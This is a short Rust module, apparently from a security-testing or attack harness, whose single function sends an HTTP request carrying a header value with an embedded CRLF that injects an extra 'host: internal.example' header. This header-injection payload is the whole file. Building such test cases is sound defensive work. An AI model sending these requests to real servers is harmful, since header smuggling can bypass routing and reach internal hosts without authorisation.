//! Sends a header that ends the line.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        let request = http::get(format!("http://{to}/")).header("x", "a\r\nhost: internal.example");
        request.send().await?.text()
    }
}
